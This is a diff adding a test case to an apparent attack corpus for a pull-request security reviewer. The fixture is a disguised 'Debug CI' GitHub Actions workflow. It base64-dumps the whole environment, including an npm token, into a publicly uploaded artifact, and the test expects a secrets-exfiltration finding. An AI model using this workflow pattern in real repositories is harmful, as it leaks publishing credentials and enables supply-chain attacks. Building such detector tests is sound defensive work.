@@ -3454,4 +3454,36 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['git-dependency'] },
   },
+  {
+    id: 'attack-workflow-env-dump-artifact',
+    description: 'A "debug CI" workflow that writes the whole environment, base64-encoded, to a file an upload-artifact step publishes, in a job whose env carries the npm token: the Shai-Hulud artifact dump spelled without toJSON(secrets).',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11021,
+        title: 'Debug CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/debug.yml',
+            head: lines(
+              'name: debug',
+              'on: push',
+              'jobs:',
+              '  debug:',
+              '    runs-on: ubuntu-latest',
+              '    env:',
+              '      NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
+              '    steps:',
+              '      - run: printenv | base64 -w0 > env.txt',
+              '      - uses: actions/upload-artifact@v4',
+              '        with:',
+              '          name: env',
+              '          path: env.txt',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
 ];
